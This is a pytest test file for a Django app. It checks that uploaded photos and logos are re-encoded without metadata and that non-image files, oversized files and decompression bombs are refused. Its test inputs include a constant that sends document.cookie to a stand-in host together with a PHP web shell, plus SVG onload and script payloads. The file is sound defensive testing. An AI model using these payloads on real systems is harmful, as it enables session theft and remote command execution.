"""Photos and logos are re-encoded by Pillow before they are stored: no metadata (EXIF, GPS,
comments), no bytes hidden after the image, nothing that is not a JPEG, PNG or WebP picture,
nothing too heavy or too large. Each case goes through the registration forms, as a person would."""

import io
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image

from actors.models import Person, Structure, StructureType
from tests.factories.directory import make_person

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>fetch('https://exemple.invalid/?c='+document.cookie)</script><?php system($_GET['c']); ?>"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def jpeg_with_location(size=(120, 90)) -> bytes:
    """A phone photo: camera make, GPS position, a comment, and the "rotate 90°" orientation flag."""
    image = Image.new("RGB", size, (10, 120, 130))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Appareil de Camille"
    exif[ExifTags.Base.Orientation] = 6  # the camera was held upright: show rotated by 90°
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (43.0, 36.0, 15.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (1.0, 26.0, 39.0),
    }
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif, comment=b"12 rue des Lilas, Toulouse")
    return buffer.getvalue()


def png(size=(60, 40), mode="RGBA") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, 0).save(buffer, format="PNG")
    return buffer.getvalue()


def post_photo(client, content: bytes, name="photo.jpg", content_type="image/jpeg"):
    return client.post(
        reverse("directory:register_person", args=["identite"]),
        {
            "first_name": "Sacha",
            "last_name": "Martin",
            "photo": SimpleUploadedFile(name, content, content_type),
        },
    )


def post_logo(client, content: bytes, name="logo.png", content_type="image/png"):
    return client.post(
        reverse("directory:register_structure_new"),
        {
            "name": "Clinique du Parc",
            "structure_type": StructureType.objects.get(code="clinique").pk,
            "logo": SimpleUploadedFile(name, content, content_type),
        },
    )


def stored_photo(user) -> bytes:
    with Person.objects.get(user=user).photo.open("rb") as handle:
        return handle.read()


def test_uploaded_photo_is_reencoded_without_exif_gps_or_comment(partner_client, partner):
    original = jpeg_with_location()
    with Image.open(io.BytesIO(original)) as check:  # the upload does carry all of it
        assert check.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"
        assert check.info["comment"] == b"12 rue des Lilas, Toulouse"

    response = post_photo(partner_client, original)

    assert response.status_code == 302
    stored = stored_photo(partner)
    assert stored != original
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert dict(image.getexif()) == {}
        assert "comment" not in image.info and "exif" not in image.info
        assert image.size == (90, 120)  # the orientation flag applied to the pixels, then dropped
    for trace in (b"Exif\x00\x00", b"Appareil de Camille", b"12 rue des Lilas", b"GPS"):
        assert trace not in stored


def test_photo_with_a_script_appended_is_stored_as_pixels_only(partner_client, partner):
    polyglot = jpeg_with_location() + SCRIPT  # a valid JPEG that is also a script to a lax reader

    response = post_photo(partner_client, polyglot)

    assert response.status_code == 302
    stored = stored_photo(partner)
    assert b"<script" not in stored and b"<?php" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        image.load()
        assert image.format == "JPEG"
    assert stored.endswith(b"\xff\xd9")  # the JPEG's own end marker is the last thing in the file


def test_logo_with_a_script_appended_is_stored_as_a_clean_png(partner_client, partner):
    make_person(user=partner)

    response = post_logo(partner_client, png() + SCRIPT)

    assert response.status_code == 302
    with Structure.objects.get().logo.open("rb") as handle:
        stored = handle.read()
    assert b"<script" not in stored and b"<?php" not in stored
    assert stored.endswith(b"IEND\xaeB`\x82")  # the PNG's end chunk closes the file
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.format, image.size) == ("PNG", (60, 40))


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (
            b"<html><script>alert(1)</script></html>",
            "photo.jpg",
            "Ce fichier n&#x27;est pas une image lisible",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "photo.png",
            "Ce fichier n&#x27;est pas une image lisible",
        ),
        (b"MZ\x90\x00\x03\x00\x00\x00", "photo.webp", "Ce fichier n&#x27;est pas une image lisible"),
        (SCRIPT + png(), "photo.png", "Ce fichier n&#x27;est pas une image lisible"),  # script first
    ],
)
def test_a_file_that_is_not_an_image_is_refused_in_french_whatever_its_name(
    partner_client, partner, content, name, message
):
    response = post_photo(partner_client, content, name=name, content_type="image/jpeg")

    page = response.content.decode()
    assert response.status_code == 200
    assert message in page
    assert "envoyez un fichier JPEG, PNG ou WebP." in page
    assert not Person.objects.filter(user=partner).exists()


def test_an_image_of_another_format_is_refused_for_a_logo_too(partner_client, partner):
    make_person(user=partner)
    buffer = io.BytesIO()
    Image.new("RGB", (30, 30)).save(buffer, format="BMP")

    response = post_logo(partner_client, buffer.getvalue(), name="logo.png", content_type="image/png")

    assert (
        "Format d&#x27;image non accepté : envoyez un fichier JPEG, PNG ou WebP." in response.content.decode()
    )
    assert not Structure.objects.exists()


def test_a_photo_over_five_megabytes_is_refused_before_it_is_decoded(partner_client, partner):
    side = 1400  # random pixels do not compress: about 5.6 MiB of PNG
    noise = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    buffer = io.BytesIO()
    noise.save(buffer, format="PNG", compress_level=0)
    content = buffer.getvalue()
    assert len(content) > 5 * 1024 * 1024

    response = post_photo(partner_client, content, name="photo.png", content_type="image/png")

    size = f"{round(len(content) / 1048576, 1)}".replace(".", ",")
    assert f"L&#x27;image est trop lourde ({size} Mo) : 5 Mo au maximum." in response.content.decode()
    assert not Person.objects.filter(user=partner).exists()


def test_a_decompression_bomb_is_refused_by_its_pixel_count(partner_client, partner):
    content = png(size=(8000, 6000), mode="1")  # 48 million pixels in a few kilobytes
    assert len(content) < 100_000

    response = post_photo(partner_client, content, name="photo.png", content_type="image/png")

    assert "L&#x27;image est trop grande (plus de 40 millions de pixels)." in response.content.decode()
    assert not Person.objects.filter(user=partner).exists()
